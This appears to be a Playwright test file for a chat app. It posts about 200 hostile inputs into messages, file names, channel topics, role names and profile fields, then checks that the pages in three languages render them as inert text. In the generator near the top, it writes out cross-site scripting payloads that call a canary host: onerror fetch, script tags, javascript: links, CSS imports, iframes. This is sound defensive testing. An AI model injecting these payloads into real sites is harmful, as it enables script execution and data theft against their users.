/** Hostile text in everything that people can name or write: it stays text, in three languages, with and without the policy. */
import type { Page } from "@playwright/test";
import { hostile } from "../../src/lib/markdown/hostile";
import { type House, type Person, enter, expect, furnished, joined, roomPath, settingsPath, test } from "../support/people";

/** What a message may be made of, and what those may carry. */
const TAGS = ["a", "bdi", "blockquote", "br", "button", "code", "div", "em", "li", "ol", "p", "pre", "s", "span", "strong", "ul"];
const ATTRIBUTES = ["aria-hidden", "aria-label", "aria-level", "class", "dir", "href", "inert", "rel", "role", "start", "tabindex", "target", "title", "type"];

const CANARY = "https://canary.example/";
const more = Array.from({ length: 100 }, (_, at) => {
  const forms = [
    `<img src="${CANARY}${String(at)}" onerror="fetch('${CANARY}')">`, `"><script src="${CANARY}${String(at)}.js"></script>`,
    `<a href="javascript:fetch('${CANARY}${String(at)}')">x</a>`, `![x](${CANARY}${String(at)}.png)`,
    `<svg><use href="${CANARY}${String(at)}#x"/></svg>`, `<style>@import "${CANARY}${String(at)}.css"</style>`,
    `<link rel=preload href="${CANARY}${String(at)}">`, `<iframe src="${CANARY}${String(at)}"></iframe>`,
    `\u202e<video poster="${CANARY}${String(at)}">\u2066`, `<math><a xlink:href="javascript:fetch('${CANARY}')">${String(at)}</a></math>`,
  ];
  return forms[at % forms.length] ?? "";
});
const CORPUS = [...hostile, ...more];

/** Without what the place refuses in one line of text. */
const line = (text: string, max: number) => [...text.replace(/[\p{Cc}\u2028\u2029]/gu, " ").replace(/\s+/gu, " ").trim()].slice(0, max).join("");

/** Tells the place; what it refuses as invalid cannot be shown and is no failure. */
async function attempt(person: Person, method: string, path: string, body: unknown): Promise<boolean> {
  try {
    await person.ask(method, path, body);
    return true;
  } catch (thrown) {
    if (!/: (400|422) /.test(String(thrown))) throw thrown;
    return false;
  }
}

/** Live elements of the page, which no text may add to; handlers and addresses that text may never make. */
const alive = (page: Page) =>
  page.evaluate(() => ({
    live: document.querySelectorAll("script, iframe, object, embed, base, form[action], meta[http-equiv], math, style").length,
    handlers: [...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => /^on/i.test(name))),
    links: [...document.querySelectorAll("[href], [src]")]
      .map((one) => (one.getAttribute("href") ?? one.getAttribute("src") ?? "").trim())
      .filter((href) => /^[a-z][a-z0-9+.-]*:/i.test(href) && !/^(https?|mailto|blob):/i.test(href)),
  }));

async function messageParts(page: Page): Promise<{ tags: string[]; attributes: string[] }> {
  return page.evaluate(() => {
    const nodes = [...document.querySelectorAll("article .text, article .text *")];
    return {
      tags: [...new Set(nodes.map((one) => one.localName))].sort(),
      attributes: [...new Set(nodes.flatMap((one) => one.getAttributeNames()))].sort(),
    };
  });
}

/** Uploads a small text under a name that means harm, and says something with it. */
async function post(house: House, from: Person, text: string, file: boolean): Promise<boolean> {
  const attachments: object[] = [];
  if (file) {
    const form = new FormData();
    form.append("purpose", "attachment");
    form.append("channel_id", house.general);
    form.append("file", new Blob(["words"], { type: "text/plain" }), `${line(text, 100)}.txt`);
    const url = `${house.place.url.replace("localhost", "127.0.0.1")}/api/v1/uploads`;
    // A refusal may come, with the line cut, while the body is still on its way.
    const answer = await fetch(url, { method: "POST", body: form, headers: { authorization: `Bearer ${from.token}` } }).catch(() => null);
    if (answer?.ok) attachments.push({ upload_id: ((await answer.json()) as { id: string }).id, description: line(text, 200) || null });
  }
  return attempt(from, "POST", `/channels/${house.general}/messages`, { content: text, attachments });
}

/** Walks the whole room from its newest to its oldest message and gathers what messages are made of. */
async function walk(page: Page): Promise<{ tags: Set<string>; attributes: Set<string>; seen: number }> {
  const [tags, attributes, keys] = [new Set<string>(), new Set<string>(), new Set<string>()];
  const step = async () => {
    const parts = await messageParts(page);
    parts.tags.forEach((one) => tags.add(one));
    parts.attributes.forEach((one) => attributes.add(one));
    for (const key of await page.locator("article[data-key]").evaluateAll((rows) => rows.map((row) => (row as HTMLElement).dataset["key"] ?? ""))) keys.add(key);
    await page.locator("#messages").evaluate((box) => {
      if (box.scrollTop === 0) box.scrollTop = 40;
      else box.scrollTop -= box.clientHeight * 0.4;
    });
    return keys.has("begin");
  };
  // A room with much unread opens at the first of it.
  await page.locator("#messages").evaluate((box) => (box.scrollTop = box.scrollHeight));
  await expect(page.locator("article .text").filter({ hasText: "before" }).last()).toBeInViewport();
  await expect.poll(step, { timeout: 60_000, intervals: [60] }).toBe(true);
  return { tags, attributes, seen: keys.size };
}

// control: canis-54, teamshots-T5
test("what people write stays text: as message, edit, name and topic, in three languages, and without the policy too", async ({ browse, place }) => {
  test.setTimeout(240_000);
  expect(CORPUS.length).toBeGreaterThanOrEqual(200);
  const house = await furnished(place);
  const ben = await joined(house, "ben", "Ben Okafor");
  let posted = 0;
  for (const [at, text] of CORPUS.entries()) posted += Number(await post(house, ben, text, at % 4 === 0));
  expect(posted).toBeGreaterThan(CORPUS.length * 0.9);
  const role = await house.ada.ask<{ id: string }>("POST", `/spaces/${house.space}/roles`, { name: "Readers", hoist: true });
  await house.ada.ask("PUT", `/spaces/${house.space}/members/${ben.id}/roles/${role.id}`);
  const edited = await house.ada.ask<{ id: string }>("POST", `/channels/${house.general}/messages`, { content: "before" });

  const pages = await Promise.all((["en", "es", "ar"] as const).map((locale) => browse({ locale })));
  // Without its policy the second page must do no other.
  await pages[1]?.route("**/*", async (route) => {
    if (route.request().resourceType() !== "document") return route.fallback();
    const answer = await route.fetch();
    const headers = Object.fromEntries(Object.entries(answer.headers()).filter(([name]) => name !== "content-security-policy"));
    await route.fulfill({ response: answer, headers });
  });
  const clean = { live: 0, handlers: [] as string[], links: [] as string[] };
  for (const page of pages) {
    await enter(page, place, "ada", roomPath(house));
    await expect(page.locator("article .text").first()).toBeVisible();
    clean.live = (await alive(page)).live;
    const whole = await walk(page);
    expect(whole.seen).toBeGreaterThan(posted);
    expect([...whole.tags].filter((one) => !TAGS.includes(one))).toEqual([]);
    expect([...whole.attributes].filter((one) => !ATTRIBUTES.includes(one))).toEqual([]);
    await page.getByRole("button", { name: /newest|recientes|الأحدث/i }).click();
  }
  expect(clean.live).toBeLessThan(4);

  // Every name and line is the payload of its turn, while the three pages show it.
  for (const [turn, text] of CORPUS.entries()) {
    await attempt(house.ada, "PATCH", `/messages/${edited.id}`, { content: text });
    await attempt(house.ada, "PATCH", `/channels/${house.general}`, { name: line(text, 64) || "x", topic: line(text, 1000) });
    await attempt(house.ada, "PATCH", `/spaces/${house.space}`, { name: line(text, 96).padEnd(2, "x"), description: text });
    await attempt(house.ada, "PATCH", `/spaces/${house.space}/roles/${role.id}`, { name: line(text, 64) || "x" });
    await attempt(ben, "PATCH", "/me", { display_name: line(text, 64) || null, bio: text.slice(0, 500), pronouns: line(text, 32) || null });
    await attempt(house.ada, "PATCH", `/spaces/${house.space}/members/${ben.id}`, { nick: line(text, 32) || null });
    if (turn % 20 === 0) for (const page of pages) expect(await alive(page)).toEqual(clean);
  }
  for (const page of pages) {
    for (const path of [settingsPath(house, "overview"), settingsPath(house, "rooms"), settingsPath(house, "roles"), settingsPath(house, "members"), roomPath(house)]) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
      expect(await alive(page)).toEqual(clean);
    }
  }
});
